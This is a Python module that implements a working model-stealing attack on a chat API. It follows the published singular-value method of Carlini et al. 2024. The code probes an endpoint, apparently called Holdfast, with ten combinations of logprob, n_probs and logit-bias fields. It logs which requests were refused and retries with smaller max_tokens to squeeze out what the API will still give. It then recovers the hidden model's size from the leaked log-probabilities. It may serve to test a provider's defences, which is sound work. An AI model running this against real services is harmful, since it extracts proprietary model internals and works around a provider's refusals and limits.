"""An attack that steals the last layer of a model through its API.

A model of hidden size h computes its logits, one for each token, as the product of h numbers and a matrix that is
always the same. An attacker who receives more than h logits of the same tokens in more than h contexts finds h as the
position at which the singular values drop, and then the matrix, up to a change of basis.

Carlini et al. 2024, Stealing Part of a Production Language Model,
https://arxiv.org/abs/2403.06634
"""

import itertools
import math
import random
from dataclasses import dataclass, field

import numpy

#: What Holdfast tells instead of a token's value that is not among the five.
UNLIKELY = -9999
#: Tokens of which the logits are wanted, and answered tokens that tell them.
TOKENS = [str(number) for number in range(1000, 1800)]
CONTEXTS = 728
EACH = 56
_WORDS = "river lamp seven music stone winter garden paper engine cloud horse salt window mirror north bread".split()


def _lifted(count):
    return {"logit_bias": {token: 100 for token in TOKENS[:count]}}


#: Ways to ask for logits, from the one that tells most to those that tell
#: least, each as fields of a chat's request.
WAYS = {
    "n_probs, post_sampling_probs": {
        "n_probs": 800, "post_sampling_probs": True, "logprobs": True, "top_logprobs": 800, "samplers": [],
        "temperature": 1, **_lifted(800),
    },
    "n_probs alone": {"n_probs": 800},
    "800 alternatives": {"logprobs": True, "top_logprobs": 800},
    "twenty alternatives, twenty tokens lifted": {"logprobs": True, "top_logprobs": 20, **_lifted(20)},
    "five alternatives, five tokens lifted": {"logprobs": True, "top_logprobs": 5, **_lifted(5)},
    "no alternatives, one token lifted": {"logprobs": True, **_lifted(1)},
    "penalties instead of a bias": {"logprobs": True, "top_logprobs": 5, "frequency_penalty": 2},
    "five alternatives": {"logprobs": True, "top_logprobs": 5},
    "one token's bias, and which answer wins": {**_lifted(1), "temperature": 0},
    "no more than words": {},
}  # fmt: skip


@dataclass
class Loot:
    """The results of the attack."""

    #: Of each context, the log-probabilities of tokens.
    vectors: list = field(default_factory=list)
    #: How each way that gave nothing more was refused: status and error.
    refusals: dict = field(default_factory=dict)
    #: Answers of each way.
    answers: dict = field(default_factory=dict)
    #: Answered tokens of each way.
    tokens: dict = field(default_factory=dict)
    #: Of these, those that came with log-probabilities: the one that ends an
    #: answer has none.
    measured: dict = field(default_factory=dict)

    @property
    def values(self):
        return sum(map(len, self.vectors))


def attack(ask, ways=WAYS, contexts=CONTEXTS):
    """Asks in each way for as long as it is answered, and until there are
    so many contexts.

    `ask(fields)` sends a chat's request and returns status and answer.
    """
    loot = Loot()
    for way in ways:
        _ask_one_way(ask, way, loot, contexts)
    return loot


def _ask_one_way(ask, way, loot, contexts):
    chance = random.Random(1)
    each, got = EACH, 0
    while got < contexts:
        words = " ".join(chance.choice(_WORDS) for _ in range(8))
        status, answer = ask({"messages": [{"role": "user", "content": words}], "max_tokens": each, **WAYS[way]})
        if status != 200:
            # Less may still be had.
            if status == 400 and "max_tokens" in str(answer.get("error", "")) and each > 1:
                each //= 2
                continue
            loot.refusals[way] = (status, answer)
            return
        told = list(_vectors(answer))
        loot.vectors += told
        loot.answers[way] = loot.answers.get(way, 0) + 1
        used = (answer.get("usage") or {}).get("completion_tokens", 0)
        loot.tokens[way] = loot.tokens.get(way, 0) + used
        measured = sum(len((choice.get("logprobs") or {}).get("content") or []) for choice in answer.get("choices", []))
        loot.measured[way] = loot.measured.get(way, 0) + measured
        got += max(1, used)


def _vectors(answer):
    """All that an answer says of logits, under any name."""
    for choice in answer.get("choices", []):
        for token in (choice.get("logprobs") or {}).get("content") or []:
            told = {}
            for one in [token, *itertools.chain(token.get("top_logprobs") or [], token.get("top_probs") or [])]:
                value = one.get("logprob")
                if value is None and one.get("prob", 0) > 0:
                    value = math.log(one["prob"])
                if value is not None and value > UNLIKELY:
                    told[one["token"], tuple(one.get("bytes") or ())] = value
            if told:
                yield told


@dataclass
class Finding:
    #: Where the singular values fall most: the hidden size, if they do.
    hidden_size: int
    #: By how much they fall there.
    ratio: float
    #: By how much they fall after each.
    gaps: numpy.ndarray
    #: How many of them are more than a computer's own noise.
    rank: int

    def gap(self, size):
        return float(self.gaps[size - 1]) if size < self.rank else 1.0


def recover(vectors, decimals=None):
    """The singular-value method over what was told; None where there is
    nothing to compute with.

    - decimals: as if so many had been told.
    """
    counts = {}
    for vector in vectors:
        for token in vector:
            counts[token] = counts.get(token, 0) + 1
    columns = sorted(counts, key=lambda token: (-counts[token], token))[: len(TOKENS)]
    if len(columns) < 3 or len(vectors) < 3:
        return None
    matrix = numpy.empty((len(vectors), len(columns)))
    for row, vector in enumerate(vectors):
        # What isn't told is at most the least that is.
        least = min(vector.values())
        matrix[row] = [vector.get(token, least) for token in columns]
    if decimals is not None:
        matrix = matrix.round(decimals)
    # Only differences are logits' own.
    matrix = matrix[:, 1:] - matrix[:, :1]
    values = numpy.linalg.svd(matrix, compute_uv=False)
    # What is exactly nothing says how little was told, and not of what.
    rank = int((values > values[0] * 1e-12).sum())
    gaps = values[: rank - 1] / values[1:rank]
    if not len(gaps):
        return None
    # The last ones fall in any matrix.
    usable = gaps[: max(1, int(len(gaps) * 0.95))]
    at = int(numpy.argmax(usable))
    return Finding(at + 1, float(usable[at]), gaps, rank)
